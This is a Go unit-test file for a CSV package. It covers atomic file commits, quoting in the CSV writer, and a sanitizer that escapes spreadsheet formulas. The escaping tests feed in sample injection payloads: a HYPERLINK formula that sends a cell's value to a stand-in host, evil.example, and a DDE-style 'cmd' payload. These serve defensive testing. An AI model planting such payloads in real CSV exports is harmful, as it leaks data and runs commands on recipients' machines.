package csvio

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestAtomicFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "golden.csv")
	if err := os.WriteFile(path, []byte("old\n"), 0o600); err != nil {
		t.Fatal(err)
	}

	// Nothing of the new content is visible before Commit.
	f, err := CreateAtomic(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte(strings.Repeat("new\n", 50000))); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(path); string(got) != "old\n" {
		t.Fatalf("before Commit the path holds %d bytes", len(got))
	}
	if err := f.Commit(); err != nil {
		t.Fatal(err)
	}
	f.Abort() // no-op after Commit
	got, err := os.ReadFile(path)
	if err != nil || len(got) != 4*50000 {
		t.Fatalf("after Commit: %d bytes, %v", len(got), err)
	}
	if st, _ := os.Stat(path); st.Mode().Perm() != 0o644 {
		t.Errorf("mode %v, want 0644", st.Mode().Perm())
	}
	if _, err := f.Write([]byte("x")); !errors.Is(err, os.ErrClosed) {
		t.Errorf("Write after Commit: %v", err)
	}
	if err := f.Commit(); err == nil {
		t.Errorf("second Commit succeeded")
	}

	// Abort leaves the old file intact and no temporary file behind.
	f, err = CreateAtomic(path)
	if err != nil {
		t.Fatal(err)
	}
	f.Write([]byte("partial"))
	f.Abort()
	f.Abort()
	if got, _ := os.ReadFile(path); len(got) != 4*50000 {
		t.Fatalf("Abort changed the file")
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 1 {
		t.Fatalf("directory holds %d entries after Abort", len(entries))
	}

	// A failing Commit (directory gone) reports the path and leaves nothing.
	sub := filepath.Join(dir, "sub")
	os.Mkdir(sub, 0o755)
	f, err = CreateAtomic(filepath.Join(sub, "x.csv"))
	if err != nil {
		t.Fatal(err)
	}
	os.RemoveAll(sub)
	if err := f.Commit(); err == nil || !strings.Contains(err.Error(), "x.csv") {
		t.Errorf("Commit into a removed directory: %v", err)
	}

	if _, err := CreateAtomic(filepath.Join(dir, "missing", "x.csv")); err == nil {
		t.Errorf("CreateAtomic in a missing directory succeeded")
	}
}

func TestWriteFileAtomic(t *testing.T) {
	path := filepath.Join(t.TempDir(), "summary.json")
	for _, data := range []string{"first", "second"} {
		if err := WriteFileAtomic(path, []byte(data)); err != nil {
			t.Fatal(err)
		}
		if got, _ := os.ReadFile(path); string(got) != data {
			t.Fatalf("got %q, want %q", got, data)
		}
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	recs := [][]string{
		{"id", "name", "note"},
		{"1", "Müller, Hans", `say "hi"`},
		{""},
		{"2", "multi\nline", " lead"},
		{"3", "", ""},
	}
	for _, rec := range recs {
		if err := w.Write(rec); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "id,name,note\n1,\"Müller, Hans\",\"say \"\"hi\"\"\"\n\"\"\n2,\"multi\nline\",\" lead\"\n3,,\n"
	if b.String() != want {
		t.Fatalf("got %q, want %q", b.String(), want)
	}

	// Round trip through the Reader (single-column file, so the lone empty
	// field must survive as a row).
	b.Reset()
	w = NewWriter(&b)
	for _, rec := range [][]string{{"v"}, {"a"}, {""}, {"=x"}} {
		w.Write(rec)
	}
	w.Flush()
	r, err := NewReader(&b, "rt.csv", Options{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for {
		row, _, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, row[0])
	}
	if fmt.Sprintf("%q", got) != `["a" "" "=x"]` {
		t.Fatalf("round trip: %q", got)
	}

	w = NewWriter(failWriter{})
	w.Write([]string{"a"})
	if err := w.Flush(); err == nil {
		t.Fatal("Flush did not report the write error")
	}
}

func TestEscapeFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Müller", "Müller"},
		{"a=b", "a=b"},
		{"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"},
		{"=1+1", "'=1+1"},
		{"@SUM(1)", "'@SUM(1)"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"+2-3", "'+2-3"},
		{"-3.25", "-3.25"},
		{"+61 2 9999 1234", "+61 2 9999 1234"},
		{"+44 (0)20 7946 0958", "+44 (0)20 7946 0958"},
		{"-12/05/2020", "-12/05/2020"},
		{"+1 555-123-4567", "'+1 555-123-4567"},
		{"-", "'-"},
		{"+", "'+"},
		{"- ", "'- "},
		{"--5", "'--5"},
		{"-1e5", "'-1e5"},
		{"-A1", "'-A1"},
		{"+ (1)", "+ (1)"},
		{"\t=cmd", "'\t=cmd"},
		{"\t123", "'\t123"},
		{"\r=cmd", "'\r=cmd"},
		{"@", "'@"},
		{"=", "'="},
		{"'=already", "'=already"},
		{" =cmd", " =cmd"},
		{"１２", "１２"},
		{"-１２", "'-１２"},
		{"\x08=x", "\x08=x"},
		{"9=", "9="},
		{"~=", "~="},
		{"?", "?"},
		{"<", "<"},
	}
	for _, tt := range tests {
		if got := EscapeFormula(tt.in); got != tt.want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestUnescapeFormulaRoundTrip(t *testing.T) {
	for _, v := range []string{"=HYPERLINK(\"x\")", "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\tx", "plain", "", "'", "+61 2 9999 1234", "-3.25", "O'Brien"} {
		if got := UnescapeFormula(EscapeFormula(v)); got != v {
			t.Errorf("UnescapeFormula(EscapeFormula(%q)) = %q", v, got)
		}
	}
}
